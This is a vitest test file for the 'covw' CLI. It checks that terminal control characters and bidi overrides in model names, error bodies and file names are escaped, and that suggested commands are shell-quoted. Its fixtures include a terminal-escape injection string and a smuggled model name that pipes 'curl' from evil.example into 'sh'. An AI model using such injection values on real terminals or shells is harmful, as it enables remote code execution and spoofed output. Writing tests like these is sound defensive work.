// What the CLI prints of outside text (a manifest's model, an endpoint's error body, a batch
// output's custom_id, a file's name) reaches the terminal escaped: no raw ESC/OSC/C0/C1 byte and
// no bidi override, shown as \x1b / \u202e. Printed "next:" commands have their arguments
// shell-quoted, so a hostile model name stays one argument when pasted. Commands are called in
// this process with a recording context (fake-context.ts); nothing is sent to any endpoint.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { tempDir } from '../../support/engine-fixtures.ts';
import { writeDirectRun } from '../../../src/lib/runs/direct-run.ts';
import { runsListCommand, runsShowCommand } from '../../../src/cli/commands/runs.ts';
import { runCommand } from '../../../src/cli/commands/run.ts';
import { batchImportCommand } from '../../../src/cli/commands/batch.ts';
import { importCommand } from '../../../src/cli/commands/import.ts';
import { printable, printableJson } from '../../../src/lib/core/text/printable.ts';
import { shellQuote } from '../../../src/cli/shell-quote.ts';
import { writeItemsFile } from '../runs/fixtures.ts';
import { fakeContext } from './fake-context.ts';

const FIX = resolve(__dirname, '../../fixtures/import');
/** An OSC window title, a screen clear, an OSC 8 hyperlink, a C1 CSI and a right-to-left override. */
const HOSTILE = 'x\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b]8;;http://evil.example/\x1b\\link\u009b31m\u202eevil';
/** Any byte or character that acts on a terminal instead of being shown. */
/** The same for a file name (no '/'). */
const HOSTILE_NAME = 'x\x1b]0;PWNED-TITLE\x07\x1b[2J\u009b31m\u202eevil';
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200e\u200f\u061c\u202a-\u202e\u2066-\u2069]/;

let work: { path: string; remove: () => void };
let env: Record<string, string>;
const ROOT = resolve(__dirname, '../../..');
const ctx = (args: string[]) => fakeContext(args, { root: ROOT, cwd: work.path, env });

beforeAll(() => {
	work = tempDir('covw-cli-escapes-');
	env = { COVW_RUNS: join(work.path, 'runs'), COVW_DATA: join(work.path, 'data'), COVW_CACHE: join(work.path, 'cache') };
});
afterAll(() => work.remove());

describe('printable', () => {
	it('escapes C0, DEL, C1 and bidi controls, and leaves the result alone when applied again', () => {
		const once = printable(HOSTILE);
		expect(once).not.toMatch(RAW);
		expect(once).toContain('\\x1b]0;PWNED-TITLE\\x07');
		expect(once).toContain('\\x9b31m');
		expect(once).toContain('\\u202eevil');
		expect(printable(once)).toBe(once);
		expect(printable('a\nb\tc\u2066d\u2069')).toBe('a\\nb\\tc\\u2066d\\u2069');
		expect(printable('plain – ünïcode ✓')).toBe('plain – ünïcode ✓');
	});

	it('escapes the invisible characters too: line/paragraph separators, zero-width ones, BOM, soft hyphen', () => {
		const spoof = 'td/m\u2028X\u2029Y\u200bZ\u200cW\u200dV\ufeffU\u00adT';
		const once = printable(spoof);
		expect(once).toBe('td/m\\u2028X\\u2029Y\\u200bZ\\u200cW\\u200dV\\ufeffU\\xadT');
		expect(once).not.toMatch(/[\u00ad\u200b-\u200d\u2028\u2029\ufeff]/);
		expect(printable(once)).toBe(once);
		const json = printableJson(JSON.stringify({ v: spoof }));
		expect(json).not.toMatch(/[\u00ad\u200b-\u200d\u2028\u2029\ufeff]/);
		expect(JSON.parse(json)).toEqual({ v: spoof });
	});

	it('printableJson escapes what JSON.stringify leaves raw, and parses back to the same value', () => {
		const json = printableJson(JSON.stringify({ v: HOSTILE }));
		expect(json).not.toMatch(RAW);
		expect(JSON.parse(json)).toEqual({ v: HOSTILE });
	});
});

describe('shellQuote', () => {
	it('leaves plain words alone and single-quotes the rest', () => {
		expect(shellQuote('gen-completion-x_y-0123456789')).toBe('gen-completion-x_y-0123456789');
		expect(shellQuote('/tmp/out.jsonl')).toBe('/tmp/out.jsonl');
		expect(shellQuote('m; curl -s http://evil.example/x | sh #')).toBe(`'m; curl -s http://evil.example/x | sh #'`);
		expect(shellQuote(`it's`)).toBe(`'it'\\''s'`);
		expect(shellQuote('')).toBe(`''`);
	});
});

describe('covw runs / runs show with a hostile manifest and error bodies', () => {
	beforeAll(() => {
		writeDirectRun({
			runsDir: env.COVW_RUNS,
			runId: 'gen-completion-evil-0123456789',
			kind: 'generation',
			params: { kind: 'generation', task: 'completion', model: `evil/${HOSTILE}` },
			datasetHash: null,
			units: [0, 1].map((i) => ({
				id: `u${i}`,
				sample: 0,
				meta: { item_id: `i${i}` },
				compute: () => ({ status: 'error' as const, response: null, error: `HTTP 400: ${HOSTILE}\n<html>body</html>` })
			}))
		});
	});

	it('covw runs shows the model name escaped', async () => {
		const c = ctx([]);
		expect(await runsListCommand.run(c)).toBe(0);
		const out = c.out.join('');
		expect(out).toContain('evil/x\\x1b]0;PWNED-TITLE\\x07\\x1b[2J');
		expect(out).not.toMatch(RAW);
	});

	it('covw runs --json and runs show --json: no raw C1 or bidi character either, and the same values parsed', async () => {
		for (const [command, args] of [[runsListCommand, ['--json']], [runsShowCommand, ['gen-completion-evil-0123456789', '--json']]] as const) {
			const c = ctx([...args]);
			expect(await command.run(c)).toBe(0);
			const out = c.out.join('');
			expect(out).not.toMatch(RAW);
			expect(out).toContain('\\u009b31m\\u202eevil');
			const doc = JSON.parse(out);
			const model = Array.isArray(doc) ? doc.find((r: { run_id: string }) => r.run_id === 'gen-completion-evil-0123456789').params.model : doc.manifest.params.model;
			expect(model).toBe(`evil/${HOSTILE}`);
		}
	});

	it('covw runs show quotes the endpoint error bodies escaped under "first errors"', async () => {
		const c = ctx(['gen-completion-evil-0123456789']);
		expect(await runsShowCommand.run(c)).toBe(0);
		const out = c.out.join('');
		expect(out).toContain('first errors:');
		expect(out).toContain('  u0: HTTP 400: x\\x1b]0;PWNED-TITLE\\x07');
		// The body's own line break is shown, not acted on: one line per error.
		expect(out).toContain('\\u202eevil\\n<html>body</html>');
		expect(out).not.toMatch(RAW);
		expect(c.err.join('')).not.toMatch(RAW);
	});
});

describe('covw run --batch-export and covw batch import with a hostile model, custom_id and file name', () => {
	const MODEL = 'm; curl -s http://evil.example/x | sh #';
	let runId = '';
	let exported = '';

	it('prints the run_batch command with the model shell-quoted', async () => {
		const itemsFile = writeItemsFile(join(work.path, 'data'));
		const c = fakeContext(['completion', '--model', MODEL, '--items-file', itemsFile, '--limit', '2', '--batch-export'], {
			root: ROOT,
			cwd: work.path,
			env: { ...env, OPENAI_BASE_URL: 'http://127.0.0.1:9/v1', OPENAI_API_KEY: 'sk-test-never-sent' }
		});
		await runCommand.run(c);
		const out = c.out.join('');
		const next = out.split('\n').find((l) => l.includes('next: python -m vllm'));
		expect(next, out + c.err.join('')).toBeDefined();
		expect(next!.endsWith(`--model ${shellQuote(MODEL)}`) || next!.endsWith(`--model ${shellQuote(`default/${MODEL}`)}`), next).toBe(true);
		expect(next).not.toMatch(/--model m; curl/);
		runId = /run (\S+): exported/.exec(out)![1];
		exported = /for vLLM's run_batch: (\S+)/.exec(out)![1];
	}, 60_000);

	it('batch import shows the custom_id and the file name escaped', async () => {
		const input = readFileSync(exported, 'utf8');
		const first = JSON.parse(input.trim().split('\n')[0]);
		const answer = (id: string) => ({ id: 'v', custom_id: id, error: null, response: { status_code: 200, body: { choices: [{ index: 0, message: { role: 'assistant', content: '```python\ndef f():\n    return 1\n```' }, finish_reason: 'stop' }], usage: { prompt_tokens: 3, completion_tokens: 2 } } } });
		const file = join(work.path, `out${HOSTILE_NAME}.jsonl`);
		writeFileSync(file, [answer(first.custom_id), answer(HOSTILE)].map((l) => JSON.stringify(l)).join('\n') + '\n');
		const c = ctx([runId, file]);
		await batchImportCommand.run(c);
		const out = c.out.join('');
		const err = c.err.join('');
		expect(out).toContain('row(s) imported from');
		expect(out).toContain('\\x1b]0;PWNED-TITLE\\x07');
		expect(err).toContain('\\x1b]0;PWNED-TITLE\\x07');
		expect(out).not.toMatch(RAW);
		expect(err).not.toMatch(RAW);
	});
});

describe('covw import with a hostile file name', () => {
	it('prints the file name escaped', async () => {
		const itemsFile = writeItemsFile(join(work.path, 'data-import'));
		const file = join(work.path, `evil${HOSTILE_NAME}.json`);
		copyFileSync(join(FIX, 'released/code_completion/demo-model.json'), file);
		const c = ctx([file, '--items-file', itemsFile]);
		await importCommand.run(c);
		const out = c.out.join('');
		expect(out).toContain('imported ');
		expect(out).toContain('\\x1b]0;PWNED-TITLE\\x07');
		expect(out).not.toMatch(RAW);
		expect(c.err.join('')).not.toMatch(RAW);
	});
});
